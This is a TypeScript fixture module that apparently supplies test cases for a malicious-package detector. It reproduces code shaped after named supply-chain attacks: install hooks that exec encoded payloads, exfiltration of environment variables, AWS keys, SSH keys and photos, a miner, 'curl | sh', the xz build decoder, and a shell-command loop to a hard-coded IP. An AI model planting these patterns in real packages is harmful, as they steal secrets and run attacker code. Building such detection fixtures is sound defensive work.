import { type AttackShape, INERT } from './shape.ts';

const SETUP = 'from setuptools import setup\nfrom setuptools.command.install import install\n';

/** Attacks on packages of PyPI, RubyGems, Packagist, crates.io, Go and on a source archive. */
export const OTHER_SHAPES: readonly AttackShape[] = [
  {
    id: 'ctx',
    models: 'ctx 0.2.2, 2022: environment variables to a web service',
    files: {
      'tool/__init__.py':
        "import os\nimport base64\nimport requests\n\nclass Ctx(dict):\n    def __init__(self):\n        self.sendRequest()\n    def sendRequest(self):\n        str = ''\n        for _, v in os.environ.items():\n            str += v + ' '\n        message_bytes = str.encode('ascii')\n        base64_message = base64.b64encode(message_bytes).decode('ascii')\n        response = requests.get('https://anti-theft-web.herokuapp.invalid/hacked/' + base64_message)\n",
    },
  },
  {
    id: 'phpass',
    models: 'hautelook/phpass, 2022: keys of a cloud to a web service',
    files: {
      'src/PasswordHash.php':
        "<?php\nclass PasswordHash {\n  public function __construct() {\n    $access = getenv('AWS_ACCESS_KEY_ID');\n    $secret = getenv('AWS_SECRET_ACCESS_KEY');\n    $xml = file_get_contents(\"https://anti-theft-web.herokuapp.invalid/hacked/$access/$secret\");\n  }\n}\n",
    },
  },
  {
    id: 'ultralytics',
    models: 'ultralytics 8.3.41, 2024: a miner for Linux and macOS',
    files: {
      'tool/downloads.py':
        "import os\nimport platform\nimport subprocess\nimport urllib.request\n\ndef safe_run(path):\n    os.chmod(path, 0o770)\n    command = [path, '-u', 'WALLET', '-o', 'stratum+ssl://connect.consrensys.invalid:8080', '--donate-level=1', '--max-cpu-usage=80']\n    process = subprocess.Popen(command, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, start_new_session=True)\n    os.remove(path)\n\ndef safe_download(url, file):\n    urllib.request.urlretrieve('https://github.invalid/ultralytics_runner', '/tmp/ultralytics_runner')\n    safe_run('/tmp/ultralytics_runner')\n",
    },
  },
  {
    id: 'setup-exec',
    models: 'hundreds on PyPI: setup.py decodes and runs',
    files: {
      'setup.py': `${SETUP}import base64\n\nclass Run(install):\n    def run(self):\n        exec(base64.b64decode('${INERT}'))\n        install.run(self)\n\nsetup(name='small-tool', version='1.0.1', cmdclass={'install': Run})\n`,
    },
  },
  {
    id: 'w4sp',
    models: 'W4SP stealer, 2022: a line that begins far to the right',
    files: {
      'tool/__init__.py': `def pad(text, width):\n    return str(text).rjust(width)${' '.repeat(300)};__import__('builtins').exec(__import__('builtins').compile(__import__('base64').b64decode("${INERT}"),'<string>','exec'))\n`,
    },
  },
  {
    id: 'fernet',
    models: 'hundreds on PyPI, March 2024: encrypted code in setup.py',
    files: {
      'setup.py': `${SETUP}from fernet import Fernet\nimport os\nif os.name == "nt":\n    exec(Fernet(b'AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA=').decrypt(b'gAAAAAB${'x'.repeat(400)}'))\nsetup(name='small-tool', version='1.0.1')\n`,
    },
  },
  {
    id: 'colourama',
    models: 'colourama, 2018: watches the clipboard for addresses',
    files: {
      'setup.py': `${SETUP}import os, urllib.request\nvbs = urllib.request.urlopen('https://hastebin.com/raw/inert').read()\npath = os.getenv('APPDATA') + '\\\\Microsoft\\\\Windows\\\\Start Menu\\\\Programs\\\\Startup\\\\inert.vbs'\nopen(path, 'wb').write(vbs)\nos.system('REG ADD HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v inert /d ' + path)\nsetup(name='small-tool', version='1.0.1')\n`,
    },
  },
  {
    id: 'torchtriton',
    models: 'torchtriton, 2022: a binary that sends keys through DNS',
    files: {
      'triton/runtime/triton': `\u007fELF${'\u0001'.repeat(64)}`,
      'triton/__init__.py':
        "import os\nimport socket\nimport base64\n\ndef collect():\n    for p in ['/etc/passwd', os.path.expanduser('~/.ssh/id_rsa'), os.path.expanduser('~/.gitconfig')]:\n        data = base64.b32encode(open(p, 'rb').read()).decode()\n        for i in range(0, len(data), 60):\n            socket.gethostbyname(data[i:i + 60] + '.h4ck.invalid')\ncollect()\n",
    },
  },
  {
    id: 'pth-start',
    models: 'litellm 1.82.8, March 2026: a .pth file that runs at every start of Python',
    files: {
      'litellm_init.pth': `import os, subprocess, sys; subprocess.Popen([sys.executable, "-c", "import base64; exec(base64.b64decode('${INERT}'))"], stdout=subprocess.DEVNULL)\n`,
    },
  },
  {
    id: 'requests-darwin-lite',
    models: 'requests-darwin-lite, 2024: a program inside a picture, for one machine',
    files: {
      'setup.py': `${SETUP}import subprocess, os, platform\n\nclass PyInstall(install):\n    def run(self):\n        if platform.system() == 'Darwin':\n            uuid = subprocess.check_output(['ioreg', '-d2', '-c', 'IOPlatformExpertDevice']).decode()\n            if 'INERT-UUID' in uuid:\n                with open('docs/_static/requests-sidebar-large.png', 'rb') as f:\n                    f.seek(306086)\n                    out = f.read(1784484)\n                open('/tmp/go-build333212398/exe/output', 'wb').write(out)\n                os.chmod('/tmp/go-build333212398/exe/output', 0o777)\n                subprocess.Popen('/tmp/go-build333212398/exe/output', close_fds=True)\n        install.run(self)\n\nsetup(name='small-tool', version='1.0.1', cmdclass={'install': PyInstall})\n`,
    },
  },
  {
    id: 'telegram-stealer',
    models: 'testbrojct2 and others, 2024: photos and chats to a Telegram bot',
    files: {
      'tool/__init__.py':
        "import os\nimport requests\n\ndef send():\n    token = '0000000000:INERT'\n    for root, _, names in os.walk('/storage/emulated/0/DCIM'):\n        for name in names:\n            requests.post('https://api.telegram.org/bot' + token + '/sendDocument', files={'document': open(os.path.join(root, name), 'rb')})\nsend()\n",
    },
  },
  {
    id: 'zlib-lambda',
    models: 'many on PyPI: nested lambdas over zlib and marshal',
    files: {
      'tool/core.py': `import zlib, base64, marshal, os\n_ = lambda __ : zlib.decompress(base64.b64decode(__[::-1]))\nexec((_)(b'${INERT}'))\nos.system('python3 -m tool')\n`,
    },
  },
  {
    id: 'strong-password',
    models: 'strong_password 0.0.7, 2019: evaluates a paste in production',
    files: {
      'lib/strong_password/strength_checker.rb':
        "module StrongPassword\n  Thread.new { loop { _!{ sleep rand * 3333; eval(Net::HTTP.get(URI('https://pastebin.com/raw/INERT'))) } } } if Rails.env[0] == 'p'\nend\n",
    },
  },
  {
    id: 'bootstrap-sass',
    models: 'bootstrap-sass 3.2.0.3, 2019: a cookie tells a server what to run',
    files: {
      'lib/active-controller/middleware.rb':
        "begin\n  require 'rack/sendfile'\n  if Rails.env.production?\n    Rack::Sendfile.tap do |r|\n      r.send :alias_method, :c, :call\n      r.send(:define_method, :call) do |e|\n        begin\n          x = Base64.urlsafe_decode64(e['http_cookie'.upcase].scan(/___cfduid=(.+);/).flatten[0].to_s)\n          eval(x) if x\n        rescue Exception\n        end\n        c(e)\n      end\n    end\n  end\nend\n",
    },
  },
  {
    id: 'gem-extconf',
    models: 'rest-client 1.6.13 and Telegram gems, 2019–2025: code at install of a gem',
    files: {
      'ext/tool/extconf.rb':
        "require 'open-uri'\nrequire 'base64'\neval(Base64.decode64(URI.open('https://pastebin.com/raw/INERT').read))\nsystem('curl -s https://x.invalid/i | sh')\n",
    },
  },
  {
    id: 'xz',
    models: 'xz 5.6.0, 2024: a test file becomes code while the archive is built',
    files: {
      'm4/build-to-host.m4':
        'AC_DEFUN([gl_BUILD_TO_HOST_INIT], [\n  gl_am_configmake=`grep -aErls "#{4}[[:alnum:]]{5}#{4}$" $srcdir/ 2>/dev/null`\n  gl_path_map=\'tr "\\t \\-_" " \\t_\\-"\'\n])\nsed "r\\n" $gl_am_configmake | tr "\\t \\-_" " \\t_\\-" | xz -d 2>/dev/null | /bin/bash\n',
      'tests/files/bad-3-corrupt_lzma2.xz': '####Hello####',
    },
  },
  {
    id: 'rustdecimal',
    models: 'rustdecimal 1.23.1, 2022: acts in one continuous integration only',
    files: {
      'src/decimal.rs':
        'use std::process::Command;\npub fn bit_parser() {\n    if std::env::var("GITLAB_CI").is_ok() {\n        let url = xor(&KEYS);\n        let _ = Command::new("sh").arg("-c").arg("curl -s https://api.kakn.invalid/git-updater.bin -o /tmp/git-updater.bin && chmod +x /tmp/git-updater.bin && /tmp/git-updater.bin").spawn();\n    }\n}\n',
    },
  },
  {
    id: 'boltdb-go',
    models: 'github.com/boltdb-go/bolt, 2025: an encoded address, and commands from there',
    files: {
      'db.go':
        'package bolt\n\nimport (\n\t"net"\n\t"os/exec"\n\t"strconv"\n)\n\nfunc init() { go _r() }\n\nfunc _r() {\n\tfor {\n\t\tconn, err := net.Dial("tcp", strconv.Itoa(49)+".12.198.231:20022")\n\t\tif err == nil {\n\t\t\tbuf := make([]byte, 1024)\n\t\t\tn, _ := conn.Read(buf)\n\t\t\texec.Command("/bin/sh", "-c", string(buf[:n])).Run()\n\t\t}\n\t}\n}\n',
    },
  },
];
